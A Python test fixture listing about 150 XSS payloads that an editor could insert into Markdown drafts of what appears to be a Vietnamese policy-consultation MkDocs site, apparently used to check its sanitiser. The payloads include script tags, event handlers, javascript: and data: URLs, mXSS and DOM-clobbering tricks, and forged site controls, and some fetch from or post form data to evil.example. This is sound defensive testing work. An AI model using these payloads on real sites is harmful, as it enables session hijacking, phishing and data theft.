"""XSS payloads as an editor with push access could write them in a draft's Markdown body.

The families follow the OWASP XSS Filter Evasion cheat sheet, plus what is particular to
this site: Markdown link forms, attribute lists (`attr_list`), the theme's own markers
(the comment button, `data-draft-id`), page meta at the top of the body, Jinja syntax.
Every payload that could run makes itself observable: it calls `alert(1)`, fetches
`https://evil.example/x`, navigates to `https://evil.example/`, or loads something from
`evil.example` (a third-party request that tells another host who reads the page).

`VECTORS` is a list of (name, markdown) pairs; each snippet is self-contained Markdown that
is appended inside a section of a draft body. NUL characters are left out: they are refused
before any Markdown is read. Two sets describe where a snippet must go:

- `AT_TOP`: must be the very first lines of the body (MkDocs would read them as page meta);
- `SWALLOWS_REST`: an unterminated construct that may hide whatever follows it, so it goes
  last in its draft, where it cannot mask another vector.
"""

from __future__ import annotations

import base64

_SVG_ONLOAD = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
).decode()
_HTML_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()

VECTORS: list[tuple[str, str]] = [
    # -- script tags --------------------------------------------------------------------------
    ("script-plain", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-src-split-lines", '<script\n  src="https://evil.example/x.js"\n  type="text/javascript">\n</script>'),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-extra-lt", "<<script>alert(1);//<</script>"),
    ("script-slash-attribute", '<script/xss src="https://evil.example/x.js"></script>'),
    ("script-inline-in-paragraph", "Văn bản <script>fetch('https://evil.example/x')</script> tiếp theo."),
    ("script-module", "<script type=\"module\">import('https://evil.example/x.js')</script>"),
    ("script-in-blockquote", "> Trích dẫn <script>alert(1)</script>"),
    ("script-in-list", "- mục một <script>alert(1)</script>\n- mục hai"),
    ("script-in-table", "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | x |"),
    ("script-in-code-span", "Mã: `<script>alert(1)</script>`"),
    ("script-in-fenced-code", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"),
    ("script-encoded-text", "&lt;script&gt;alert(1)&lt;/script&gt; và &amp;lt;script&amp;gt;"),
    ("script-utf7-and-fullwidth", "+ADw-script+AD4-alert(1)+ADw-/script+AD4- ＜script＞alert(1)＜/script＞"),
    ("script-half-open", "<script src=https://evil.example/x.js?< b >"),
    ("script-unclosed", "<script>alert(1)"),
    # -- event handlers -----------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-mixed-case", '<IMG SRC=x oNeRrOr="alert(1)">'),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    ("img-onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">'),
    ("img-onerror-in-markdown-paragraph", "Ảnh <img src=x onerror=\"fetch('https://evil.example/x')\"> giữa câu."),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>Chi tiết</summary>x</details>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("select-autofocus-onfocus", "<select autofocus onfocus=alert(1)><option>x</option></select>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>chạy chữ</marquee>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("object-javascript", '<object data="javascript:alert(1)"></object>'),
    ("embed-javascript", '<embed src="javascript:alert(1)">'),
    ("p-onclick-allowed-tag", '<p onclick="alert(1)" onmouseover="alert(1)">Đoạn văn</p>'),
    ("div-onmouseover", '<div onmouseover="alert(1)">Di chuột</div>'),
    ("a-onfocus-autofocus", '<a href="#x" tabindex=1 onfocus=alert(1) autofocus>liên kết</a>'),
    ("span-onanimationstart", '<span style="animation-name:pd-spin" onanimationstart="alert(1)">x</span>'),
    (
        "td-style-and-onmouseover",
        '<table><tr><td style="background:url(javascript:alert(1))" onmouseover=alert(1)>ô</td></tr></table>',
    ),
    (
        "allowed-attribute-breakout",
        (
            '<ol start="1 onclick=alert(1)"><li>x</li></ol> <abbr title=\'" onmouseover="alert(1)\'>x</abbr>'
            ' <img src="a.png" width="1 onerror=alert(1)">'
        ),
    ),
    ("isindex-frameset", "<isindex type=image src=1 onerror=alert(1)><frameset onload=alert(1)>"),
    # -- javascript:, vbscript:, data: URLs in HTML ----------------------------------------------
    ("a-href-javascript", '<a href="javascript:alert(1)">bấm</a>'),
    ("a-href-javascript-mixed-case", "<a href=JaVaScRiPt:alert(1)>bấm</a>"),
    (
        "a-href-javascript-decimal-entities",
        ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">bấm</a>'),
    ),
    (
        "a-href-javascript-padded-entities",
        (
            '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
            '&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">bấm</a>'
        ),
    ),
    (
        "a-href-javascript-hex-entities",
        ('<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">bấm</a>'),
    ),
    ("a-href-javascript-tab", '<a href="jav\tascript:alert(1)">bấm</a>'),
    (
        "a-href-javascript-entity-tab-newline",
        (
            '<a href="jav&#x09;ascript:alert(1)">a</a> '
            '<a href="jav&#x0A;ascript:alert(1)">b</a> <a href="javas&Tab;cript&colon;alert(1)">c</a>'
        ),
    ),
    ("a-href-javascript-newline", '<a href="java\nscript:alert(1)">bấm</a>'),
    (
        "a-href-javascript-leading-space-control",
        ('<a href=" javascript:alert(1)">a</a> <a href="&#14;  javascript:alert(1)">b</a>'),
    ),
    ("a-href-vbscript", '<a href="vbscript:msgbox(1)">bấm</a>'),
    ("a-href-data-html", '<a href="data:text/html;base64,' + _HTML_SCRIPT + '">bấm</a>'),
    (
        "img-src-javascript",
        (
            '<img src="javascript:alert(1)"> <img src=JaVaScRiPt:alert(1)> '
            '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'
        ),
    ),
    ("img-src-data-svg", '<img src="data:image/svg+xml;base64,' + _SVG_ONLOAD + '">'),
    ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">Gửi</button></form>'),
    (
        "form-action-external",
        (
            '<form action="https://evil.example/collect" method="post"><input name="cccd">'
            "<button>Gửi góp ý</button></form>"
        ),
    ),
    ("a-href-protocol-relative", '<a href="//evil.example">trang khác</a>'),
    # -- Markdown link forms ------------------------------------------------------------------
    ("md-inline-javascript", "[bấm](javascript:alert(1))"),
    ("md-inline-javascript-mixed-case", "[bấm](JaVaScRiPt:alert(1))"),
    ("md-inline-javascript-angle", "[bấm](<javascript:alert(1)>)"),
    ("md-inline-javascript-entity-decimal", "[bấm](&#106;avascript:alert(1))"),
    ("md-inline-javascript-entity-hex", "[bấm](&#x6A;avascript:alert(1))"),
    ("md-inline-javascript-entity-tab", "[bấm](java&#9;script:alert(1)) [bấm](java&#10;script:alert(1))"),
    ("md-inline-javascript-entity-colon", "[a](javascript&#58;alert(1)) [b](javascript&colon;alert(1))"),
    ("md-inline-javascript-leading-space", "[bấm](  javascript:alert(1))"),
    ("md-inline-vbscript-data", "[a](vbscript:msgbox(1)) [b](data:text/html;base64," + _HTML_SCRIPT + ")"),
    ("md-reference-javascript", "[bấm][r1]\n\n[r1]: javascript:alert(1)"),
    ("md-reference-javascript-title", '[bấm][r2]\n\n[r2]: JAVASCRIPT:alert(1) "tiêu đề"'),
    ("md-autolink-javascript", "<javascript:alert(1)> <JAVASCRIPT:alert(1)>"),
    ("md-image-javascript", "![ảnh](javascript:alert(1))"),
    ("md-image-data-svg", "![ảnh](data:image/svg+xml;base64," + _SVG_ONLOAD + ")"),
    ("md-image-reference-external", "![ảnh][img]\n\n[img]: https://evil.example/pixel.png"),
    ("md-link-title-breakout", '[bấm](https://ok.example/ "\\" onmouseover=\\"alert(1)")'),
    ("md-link-url-quote-breakout", '[bấm](https://ok.example/"onmouseover="alert(1))'),
    ("md-image-alt-breakout", '![" onerror="alert(1)](x.png)'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://ok.example/)"),
    ("md-heading-html", "### <img src=x onerror=alert(1)> Tiêu đề có ảnh"),
    ("md-heading-escaped-html", "### &lt;img src=x onerror=alert(1)&gt; Tiêu đề thoát"),
    ("md-footnote-html", "Chú thích[^x1].\n\n[^x1]: <img src=x onerror=alert(1)> [bấm](javascript:alert(1))"),
    ("md-in-html-block", '<div markdown="1">\n[bấm](javascript:alert(1)) <img src=x onerror=alert(1)>\n</div>'),
    ("md-admonition-title", '!!! note "<img src=x onerror=alert(1)>"\n    Nội dung <script>alert(1)</script>'),
    ("md-abbr-title", 'Văn bản HTML.\n\n*[HTML]: " onmouseover="alert(1)" <img src=x onerror=alert(1)>'),
    ("md-details-title", '??? note "<img src=x onerror=alert(1)>"\n    Nội dung [bấm](javascript:alert(1))'),
    # -- attribute lists (attr_list) ------------------------------------------------------------
    ("attr-paragraph-onclick", 'Đoạn văn có thuộc tính.\n{: onclick="alert(1)" onmouseover="alert(1)" }'),
    ("attr-heading-onmouseover", '### Tiêu đề có thuộc tính {: onmouseover="alert(1)" }'),
    ("attr-link-onclick", '[bấm](https://ok.example/){: onclick="alert(1)" }'),
    ("attr-link-href-override", '[bấm](https://ok.example/){: href="javascript:alert(1)" }'),
    ("attr-image-onerror", '![ảnh](khong-co.png){: onerror="alert(1)" }'),
    (
        "attr-image-src-override",
        ('![ảnh](a.png){: src="https://evil.example/pixel.png" srcset="https://evil.example/pixel.png 1x" }'),
    ),
    ("attr-split-lines", 'Đoạn văn thuộc tính nhiều dòng\n{: onclick="alert(1)"\n   onmouseover="alert(1)" }'),
    ("attr-style-url", 'Đoạn văn có kiểu.\n{: style="background:url(https://evil.example/x.png)" }'),
    ("attr-forged-button", "[Gửi góp ý](https://evil.example/){: .md-button .md-button--primary data-comment-form }"),
    ("attr-forged-draft-marker", 'Đoạn văn giả.\n{: data-draft-id="x" data-status="open" data-facts="{}" }'),
    ("attr-reserved-id", "### Trạng thái giả {: #trang-thai }"),
    # -- page head elements, styles, third-party requests --------------------------------------
    ("base-href", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    ("link-prefetch", '<link rel="prefetch" href="https://evil.example/x">'),
    ("style-import", "<style>@import url(https://evil.example/x.css);</style>"),
    ("style-attr-javascript-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    (
        "style-attr-external-url",
        (
            '<div style="background-image:url(https://evil.example/x.png)">x</div>'
            ' <td style="text-align:left;background:url(//evil.example/x.png)">x</td>'
        ),
    ),
    ("style-attr-css-escapes", '<p style="background:\\75\\72\\6C(https://evil.example/x.png)">x</p>'),
    ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("img-src-external", '<img src="https://evil.example/pixel.png">'),
    ("img-src-protocol-relative", '<img src="//evil.example/pixel.png">'),
    ("img-src-backslashes", '<img src="\\\\evil.example\\pixel.png"> <img src="/\\evil.example/pixel.png">'),
    ("img-src-tab-slashes", '<img src="/\t/evil.example/pixel.png"> <img src="&#47;&#47;evil.example/pixel.png">'),
    (
        "img-src-entity-tab-slashes",
        (
            '<img src="/&#9;/evil.example/pixel.png"> <img src="&#9;//evil.example/pixel.png">'
            ' <img src="&#x5C;&#x5C;evil.example/pixel.png">'
        ),
    ),
    ("img-srcset-external", '<img src="a.png" srcset="https://evil.example/pixel.png 2x">'),
    ("md-image-external", "![ảnh](https://evil.example/pixel.png) ![ảnh](//evil.example/pixel.png)"),
    (
        "media-external",
        (
            '<video src="https://evil.example/x.mp4" poster="https://evil.example/p.png" autoplay>'
            '</video><audio src="https://evil.example/x.mp3" autoplay></audio>'
        ),
    ),
    ("picture-source-external", '<picture><source srcset="https://evil.example/x.png"><img src="a.png"></picture>'),
    ("input-image-external", '<input type="image" src="https://evil.example/x.png">'),
    (
        "table-background-external",
        (
            '<table background="https://evil.example/x.png"><tr>'
            '<td background="https://evil.example/y.png">x</td></tr></table>'
        ),
    ),
    (
        "iframe-external",
        (
            '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x">'
            '</object><embed src="https://evil.example/y">'
        ),
    ),
    # -- SVG and MathML namespaces -------------------------------------------------------------
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">bấm</text></a></svg>'),
    (
        "svg-animate-href",
        ('<svg><a><animate attributeName=href values=javascript:alert(1) /><text x="20" y="20">bấm</text></a></svg>'),
    ),
    ("svg-set-onbegin", "<svg><set onbegin=alert(1) attributeName=x dur=1s /></svg>"),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("svg-image-external", '<svg><image href="https://evil.example/x.png" /></svg>'),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>'),
    ("svg-p-style-mxss", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("math-maction", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>'),
    (
        "math-mtext-mglyph-mxss",
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ),
    (
        "form-math-mxss",
        ('<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">'),
    ),
    # -- raw-text elements, comments, CDATA, template, noscript ---------------------------------
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("template-shadowroot", '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment-short-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-dash-close", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-in-attribute", '<p title="<!--"><img src=x onerror=alert(1)>--></p>'),
    ("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    ("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("textarea-escape", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("title-escape", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
    ("xmp-escape", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("iframe-content-escape", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("noembed-escape", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("style-content-escape", '<style><img title="</style><img src=x onerror=alert(1)>"></style>'),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("comment-unclosed", "<!-- <img src=x onerror=alert(1)>"),
    # -- the site's own controls and markers ---------------------------------------------------
    ("forged-comment-button", '<a href=x data-comment-form class="md-button md-button--primary">Gửi góp ý</a>'),
    (
        "forged-comment-button-external",
        (
            '<a href="https://evil.example/phishing" data-comment-form '
            'class="md-button md-button--primary pd-comment__button">Gửi góp ý</a>'
        ),
    ),
    ("forged-draft-marker", '<div data-draft-id="x" data-status="open">Đang lấy ý kiến</div>'),
    (
        "forged-draft-facts",
        (
            '<div data-draft-id="xss-01" data-status="closed" data-facts=\'{"windows": []}\'>'
            "<p data-countdown>Hết hạn góp ý.</p></div>"
        ),
    ),
    ("forged-reserved-id-and-classes", '<h3 id="trang-thai">Giả</h3><p class="pd-status-line md-button">Giả</p>'),
    (
        "dom-clobbering",
        (
            '<a id="__md_scope" name="__md_scope" href="https://evil.example/">x</a>'
            '<img name="getElementById" src="a.png"><form name="location"></form>'
        ),
    ),
    ("block-marker-in-body", "<!-- policy-drafts:open -->\n\n<!-- policy-drafts:feeds -->"),
    ("jinja-expression", "{{ '<img src=x onerror=alert(1)>' | safe }} {% raw %}x{% endraw %} {{ 7*7 }}"),
    ("front-matter-like-mid-body", "---\ntemplate: evil.html\n---"),
    ("meta-template-parent", "---\ntemplate: ../../evil.html\n---"),
    ("meta-template-custom-dir", "---\ntemplate: evil.html\nhide: [toc]\n---"),
]

AT_TOP = {"meta-template-parent", "meta-template-custom-dir"}
SWALLOWS_REST = {
    "script-unclosed",
    "script-half-open",
    "plaintext",
    "comment-unclosed",
    "noscript-mxss",
    "form-math-mxss",
}

assert len({name for name, _ in VECTORS}) == len(VECTORS), "vector names must be unique"
assert {name for name, _ in VECTORS} >= AT_TOP | SWALLOWS_REST
assert all("\0" not in text for _, text in VECTORS)
